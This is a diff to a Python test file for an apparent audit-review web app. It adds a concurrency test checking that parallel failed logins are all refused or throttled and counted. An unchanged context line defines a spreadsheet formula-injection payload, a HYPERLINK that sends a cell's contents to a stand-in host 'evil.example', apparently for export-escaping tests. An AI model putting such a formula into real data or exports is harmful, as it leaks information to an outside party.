@@ -20,6 +20,7 @@ from conductlens.review.roles import Role
 from conductlens.review.sample import PASSWORD, World
 from conductlens.store import Store
 from conductlens.store.tables_review import audit_events, users, web_sessions
+from conductlens.store.tables_review import login_throttle as throttle_table
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -214,3 +215,29 @@ def test_admins_unlock_disable_reset_and_change_roles_all_audited(
     inv = login("investigator")
     assert inv.post(f"{base}/unlock", data={"csrf": inv.csrf,
                                             "reason": "let me"}).status_code == 403
+
+
+def test_parallel_failed_sign_ins_are_all_counted_and_answered(store: Store,
+                                                               world: World) -> None:
+    import threading
+
+    outcomes: list[str] = []
+
+    def attempt(n: int) -> None:
+        try:
+            accounts.authenticate(store.engine, "brand-new-name", f"guess {n}", None, "10.9.9.9")
+        except (accounts.LoginRefused, accounts.LoginThrottled) as exc:
+            outcomes.append(type(exc).__name__)
+        except Exception as exc:  # noqa: BLE001 - a crash is what this test looks for
+            outcomes.append(repr(exc))
+
+    threads = [threading.Thread(target=attempt, args=(n,)) for n in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert sorted(set(outcomes)) <= ["LoginRefused", "LoginThrottled"] and len(outcomes) == 8
+    with store.engine.connect() as conn:
+        counted = conn.scalar(select(throttle_table.c.failures).where(
+            throttle_table.c.kind == "account", throttle_table.c.username == "brand-new-name"))
+    assert counted == outcomes.count("LoginRefused")
